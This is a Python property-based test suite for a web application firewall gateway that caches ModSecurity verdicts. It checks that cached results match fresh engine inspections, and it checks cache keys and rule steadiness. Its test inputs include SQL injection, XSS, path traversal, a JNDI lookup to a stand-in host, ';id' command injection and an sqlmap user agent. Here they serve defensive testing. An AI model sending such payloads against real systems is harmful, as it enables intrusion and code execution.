"""A remembered verdict is the engine's verdict, for every request that is made."""

import asyncio
from pathlib import Path
from urllib.parse import urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from strongroom.gateway import crs, rules
from strongroom.gateway.contract import Contract, Match, Request
from strongroom.gateway.kinds import KINDS, alike, fits
from strongroom.gateway.modsecurity import Engine, Subject
from strongroom.gateway.settings import parse
from strongroom.gateway.verdicts import Verdicts
from strongroom.gateway.waf import Found, Waf

CONTRACT = Contract(
    parse(b"""
[gateway]
routes = "learn"

[person]
by = "cookie"
name = "sid"

[[route]]
name = "letter"
path = "/p{patient:int}/letters/{document:uuid}.pdf"
methods = ["GET", "HEAD", "DELETE"]
query = { q = "text", n = "int" }

[[route]]
name = "day"
path = "/days/{day:date}/{number:digits}/{key:guid}/{word:token}"

[[route]]
name = "files"
path = "/files/{number:int}/{rest:path}"
""")
)
KINDLY = {
    "int": st.from_regex(KINDS["int"], fullmatch=True),
    "digits": st.from_regex(KINDS["digits"], fullmatch=True),
    "uuid": st.uuids().map(str),
    "guid": st.uuids().map(lambda one: str(one).upper()),
    "date": st.dates().map(str),
}
WORDS = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_categories=["C"]), max_size=12),
    st.sampled_from(
        [
            "1' OR '1'='1",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "${jndi:ldap://x}",
            "O'Neill",
            "4711",
            ";id",
            "",
        ]
    ),
)
PATHS = st.one_of(
    st.builds("/p{}/letters/{}.pdf".format, KINDLY["int"], KINDLY["uuid"]),
    st.builds(
        "/days/{}/{}/{}/{}".format,
        KINDLY["date"],
        KINDLY["digits"],
        KINDLY["guid"],
        st.sampled_from(["a", "passwd", "web-inf"]),
    ),
    st.builds("/files/{}/{}".format, KINDLY["int"], st.sampled_from(["a.pdf", "etc/passwd", "wp-config.php", "1/2"])),
    st.builds("/other/{}/{}".format, KINDLY["int"], KINDLY["uuid"]),
)
QUERIES = st.lists(st.tuples(st.sampled_from(["q", "n", "x"]), st.one_of(KINDLY["int"], WORDS)), max_size=2)
HEADERS = st.lists(
    st.tuples(
        st.sampled_from([b"user-agent", b"cookie", b"referer", b"range", b"x-own"]),
        st.one_of(
            st.sampled_from(
                [
                    b"Mozilla/5.0",
                    b"sqlmap/1.0",
                    b"sid=1",
                    b"sid=2",
                    b"bytes=0-",
                    b"${jndi:ldap://x}",
                    b"bytes=1-2,3-4,5-6,7-8,9-1,2-3",
                ]
            ),
            st.binary(max_size=8),
        ),
    ),
    max_size=3,
)


@pytest.fixture(scope="module")
def engine() -> Engine:
    """Debian's rules, and ours."""
    found = Engine()
    assert rules.load(found).steady
    return found


@pytest.fixture(scope="module")
def waf(engine: Engine) -> Waf:
    """One that remembers, over all that the property asks it."""
    return Waf(engine, block=True, verdicts=Verdicts(50))


def asked(waf: Waf, subject: Subject, alike: bytes) -> Found:
    """As the gateway asks it of a request without a body."""
    looks = waf.looks(subject.client, subject.headers)
    return Found(()) if waf.passed(looks, subject.method, alike) else waf.look(subject, looks, alike)


@settings(max_examples=200)
@given(
    st.sampled_from(["GET", "HEAD", "DELETE", "TRACK"]),
    PATHS,
    QUERIES,
    HEADERS,
    st.sampled_from(["192.0.2.1", "127.0.0.1"]),
)
def test_what_is_remembered_is_what_the_engine_says(
    engine: Engine,
    waf: Waf,
    method: str,
    path: str,
    query: list[tuple[str, str]],
    headers: list[tuple[bytes, bytes]],
    client: str,
) -> None:
    """For every method, path, query, header and client; asked again, and asked with other ids of the same kinds before."""
    raw = f"{path}?{urlencode(query)}" if query else path
    match = CONTRACT.check(Request(method, raw.encode(), []))
    if not isinstance(match, Match):
        return
    subject = Subject(method, match.target.wire, ((b"host", b"p"), (b"accept", b"*/*"), *headers), client)
    fresh = engine.inspect(subject)

    for _ in range(2):
        found = asked(waf, subject, match.alike)
        assert (found.hits, bool(found.refusal)) == (fresh.hits, bool(fresh.status))


@settings(max_examples=200)
@given(st.sampled_from(sorted(KINDLY)).flatmap(lambda kind: st.tuples(st.just(kind), KINDLY[kind])))
def test_no_strict_id_is_blocked(engine: Engine, one: tuple[str, str]) -> None:
    """What one value stands for matches no rule, whichever it is; and what stands for it is of its kind and length."""
    kind, value = one
    assert fits(kind, alike(kind, value))
    assert len(alike(kind, value)) == len(value)
    subject = Subject(
        "GET",
        f"/a/{value}/b{value}.pdf".encode(),
        ((b"host", b"p"), (b"user-agent", b"M"), (b"accept", b"*/*")),
        "192.0.2.1",
    )
    assert engine.inspect(subject).hits == ()


def test_words_stand_for_themselves() -> None:
    """A kind with letters has no value that stands for all."""
    assert [alike(kind, "bad") for kind in ("hex", "token", "id", "reference", "name", "text", "bool")] == ["bad"] * 7


@given(
    st.lists(st.tuples(st.binary(max_size=3), st.binary(max_size=3)), max_size=3),
    st.lists(st.tuples(st.binary(max_size=3), st.binary(max_size=3)), max_size=3),
)
def test_all_that_the_rules_see_is_in_the_key(
    some: list[tuple[bytes, bytes]], others: list[tuple[bytes, bytes]]
) -> None:
    """Headers in their order, where each begins; method, target, client: another one is another key."""
    verdicts = Verdicts()

    def key(
        method: str = "GET", target: bytes = b"/a", client: str = "192.0.2.1", headers: list[tuple[bytes, bytes]] = some
    ) -> bytes:
        return verdicts.key(verdicts.looks(client, headers), method, target)

    assert (key() == key(headers=others)) is (some == others)
    assert (
        len(
            {
                key(),
                key(method="HEAD"),
                key(target=b"/b"),
                key(client="192.0.2.2"),
                (another := Verdicts()).key(another.looks("192.0.2.1", some), "GET", b"/a"),
            }
        )
        == 5
    )


def test_it_is_bounded_and_the_longest_unasked_goes() -> None:
    """Two places, three requests."""
    verdicts = Verdicts(2)
    for key in (b"a", b"b"):
        verdicts.remember(key)
    assert verdicts.passed(b"a")
    verdicts.remember(b"c")
    assert [verdicts.passed(key) for key in (b"a", b"b", b"c")] == [True, False, True]
    assert (len(verdicts), verdicts.met) == (2, 3)


def test_what_matched_is_looked_at_again(engine: Engine) -> None:
    """Neither a block nor a match that is only told is remembered; nor a request with a body."""
    waf = Waf(engine, block=False, verdicts=(verdicts := Verdicts()))
    headers = ((b"host", b"p"), (b"user-agent", b"M"), (b"accept", b"*/*"))
    attack = Subject("GET", b"/a?q=%3Cscript%3E", headers, "192.0.2.1")
    posted = Subject("POST", b"/a", (*headers, (b"content-type", b"application/json")), "192.0.2.1", b"{}")
    quiet = Subject("GET", b"/a", headers, "192.0.2.1")

    for subject in (attack, quiet, quiet):
        asked(waf, subject, subject.target)
    for subject in (posted, quiet):
        asyncio.run(waf.inspect(subject))
    assert (len(verdicts), verdicts.met) == (1, 1)
    waf.close()


@pytest.mark.parametrize(
    ("rule", "steady"),
    [
        ('SecRule TIME_HOUR "@gt 20" "id:1"', False),
        ('SecRule ARGS|IP:COUNT "@gt 20" "id:1"', False),
        ('SecRule GLOBAL:a "@gt 20" "id:1"', False),
        ('SecRule UNIQUE_ID "@rx ." "id:901410,ver"', True),
        ('SecRule ARGS:TIMER|REMOTE_ADDR "@rx TIME_HOUR" "id:1"', True),
    ],
)
def test_rules_that_count_or_look_at_clocks_are_found(tmp_path: Path, rule: str, steady: bool) -> None:
    """Then nothing is remembered."""
    (tmp_path / "REQUEST-911-A.conf").write_text(rule + "\n")
    assert crs.read(tmp_path).steady is steady
